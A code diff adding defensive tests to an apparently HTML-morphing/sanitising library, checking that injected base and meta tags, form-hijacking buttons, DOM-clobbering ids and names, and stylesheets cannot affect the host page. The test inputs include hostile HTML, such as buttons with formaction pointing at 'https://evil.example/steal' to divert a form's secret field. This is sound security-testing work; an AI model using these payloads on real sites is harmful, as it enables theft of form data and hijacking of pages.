@@ -392,6 +392,107 @@ test('scripts, handlers and javascript: URLs never run', () =>
     docLive.remove();
   }));
 
+// ---- nothing reaches outside the target ----
+
+test('<base> and <meta> never reach the host: no rebase, no refresh, no referrer policy', () =>
+  inPage(async () => {
+    const live = T.mount('');
+    const [href, base, referrer] = [location.href, document.baseURI, document.referrerPolicy];
+    const html = `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=/navigated">
+        <meta name="referrer" content="unsafe-url"><svg><base href="https://evil.example/"/></svg>
+        <template id="bm-tpl"><base href="https://evil.example/"><meta http-equiv="refresh" content="0"></template><a id="bm-a" href="rel">a</a>`;
+    T.morph(live, html);
+    T.morph(live, html);
+    T.morph(T.mount(''), `<!doctype html><html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=/navigated2"></head><body>b</body></html>`);
+    T.eq(document.querySelectorAll('base, meta:not([charset])').length, 0, 'base or meta in the page');
+    T.eq(document.getElementById('bm-tpl').content.querySelectorAll('base, meta').length, 0, 'in template content');
+    T.eq(document.baseURI, base, 'the host was rebased');
+    T.eq(document.getElementById('bm-a').href, new URL('rel', base).href);
+    T.eq(document.referrerPolicy, referrer);
+    await T.sleep(1500); // a refresh of 0 s would have navigated by now (and destroyed this context)
+    T.eq(location.href, href, 'the host navigated');
+  }));
+
+test("form and form* attributes never reach a host form", () =>
+  inPage(async () => {
+    const host = T.mount('<form id="fm-host" action="/host-submit"><input name="secret" value="s"></form>');
+    const submits = [];
+    host.querySelector('form').addEventListener('submit', (e) => (submits.push(e.submitter?.id), e.preventDefault()));
+    const live = T.mount('');
+    T.morph(live, `<button id="fm-b" form="fm-host" formaction="https://evil.example/steal" formmethod="get" formtarget="_top">go</button>
+        <input id="fm-i" form="fm-host" name="extra" value="x"><form id="fm-own" action="/own"><button id="fm-own-b" formaction="//evil.example/" formenctype="text/plain">own</button></form>`);
+    const b = document.getElementById('fm-b');
+    T.ok(b.form === null && document.getElementById('fm-i').form === null, 'a control joined the host form');
+    T.eq([...live.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith('form')), []);
+    b.click();
+    T.eq(submits, [], 'the host form was submitted');
+    T.eq(new FormData(host.querySelector('form')).getAll('extra'), []);
+    // A target inside a host form: incoming buttons lose their overrides there too.
+    const inner = host.querySelector('form').appendChild(document.createElement('div'));
+    T.morph(inner, '<button id="fm-in" formaction="https://evil.example/steal" formmethod="post">in</button>');
+    T.ok(!document.getElementById('fm-in').hasAttribute('formaction') && !document.getElementById('fm-in').hasAttribute('formmethod'), 'formaction kept');
+    T.eq(document.getElementById('fm-own').getAttribute('action'), '/own', "the incoming form's own action stays");
+  }));
+
+test('no id or name clobbers document or window, and the next morph still works', () =>
+  inPage(() => {
+    const live = T.mount('');
+    const saved = ['querySelector', 'getElementById', 'evaluate', 'createElement', 'body', 'cookie', 'activeElement', 'getSelection', 'defaultView'].map((k) => [k, document[k]]);
+    const html = `<img id="cl-img" name="querySelector" src="/cl.png" alt=""><form id="getElementById"></form><form name="evaluate"></form>
+        <form name="createElement"></form><embed name="body"><object id="cookie"></object><iframe name="activeElement"></iframe><img name="getSelection" id="defaultView" alt="">
+        <a id="addEventListener">a</a><div id="toString">d</div><p name="dispatchEvent">p</p><h2 id="cl-h2" name="intro">kept</h2><form id="cl-ok" name="subscribe"></form>`;
+    T.morph(live, html);
+    T.morph(live, html);
+    for (const [k, v] of saved) T.ok(document[k] === v, `document.${k} was clobbered`);
+    T.eq([typeof window.addEventListener, typeof window.toString, typeof window.dispatchEvent], ['function', 'function', 'function'], 'window clobbered');
+    T.eq(document.getElementById('cl-h2').getAttribute('name'), 'intro', 'a harmless id and name stay');
+    T.eq(document.getElementById('cl-ok').getAttribute('name'), 'subscribe', 'a harmless name stays');
+    T.ok(!document.getElementById('cl-img').hasAttribute('name'));
+    T.morph(live, '<p id="cl-after">next</p>');
+    T.eq(live.innerHTML, '<p id="cl-after">next</p>', 'the next morph did nothing');
+    // The same in a frame's document: its document and window are the ones judged.
+    const frame = document.createElement('iframe');
+    document.body.append(frame);
+    const fd = frame.contentDocument, fqs = fd.querySelector;
+    T.morph(fd.body, '<form name="querySelector"></form><img name="createElement" alt="">');
+    T.ok(fd.querySelector === fqs && typeof fd.createElement == 'function', "the frame's document was clobbered");
+    T.morph(fd.body, '<p>again</p>');
+    T.eq(fd.body.innerHTML, '<p>again</p>');
+    frame.remove();
+  }));
+
+test('styles apply only where they cannot reach the host: a shadow root or a frame', () =>
+  inPage(async () => {
+    const probe = T.mount('<p id="st-probe">p</p>');
+    const styles = () => [getComputedStyle(document.body).backgroundColor, getComputedStyle(document.getElementById('st-probe')).color];
+    const before = styles();
+    const html = `<style>body{background:rgb(1,2,3)} p{color:rgb(4,5,6)}</style><link rel="stylesheet" href="data:text/css,p%7Bcolor:rgb(7,8,9)%7D">
+        <svg><style>p{color:rgb(10,11,12)}</style></svg><p class="st-p">x</p>`;
+    const live = T.mount('');
+    T.morph(live, html);
+    T.morph(live, html);
+    await T.sleep(200);
+    T.eq(live.querySelectorAll('style, link').length, 0, 'a stylesheet in the host document');
+    T.eq(styles(), before, 'the host was restyled');
+    // In a shadow root the same HTML keeps its styles, scoped to it.
+    const host = T.mount('');
+    const inner = host.attachShadow({ mode: 'open' }).appendChild(document.createElement('div'));
+    T.morph(inner, '<style>p{color:rgb(4,5,6)}</style><p>s</p>');
+    T.eq(getComputedStyle(inner.querySelector('p')).color, 'rgb(4, 5, 6)', 'the shadow root lost its style');
+    // In a frame's document (as Studio's preview iframe): kept, styling the frame alone.
+    const frame = document.createElement('iframe');
+    frame.setAttribute('sandbox', 'allow-same-origin');
+    document.body.append(frame);
+    await new Promise((r) => (frame.contentDocument?.readyState == 'complete' ? r() : frame.addEventListener('load', r, { once: true })));
+    const fd = frame.contentDocument;
+    T.morph(fd.body, '<style>body{background:rgb(1,2,3)}</style><p>f</p><base href="https://evil.example/">');
+    T.eq(fd.querySelectorAll('style').length, 1, "the frame's style was dropped");
+    T.eq(fd.querySelectorAll('base').length, 0, 'base is dropped everywhere');
+    T.eq(getComputedStyle(fd.body).backgroundColor, 'rgb(1, 2, 3)');
+    T.eq(styles(), before, 'the host was restyled');
+    frame.remove();
+  }));
+
 test('no input makes it throw, and a bad call leaves the next one working', () =>
   inPage(() => {
     const live = T.mount('<p>kept</p>');
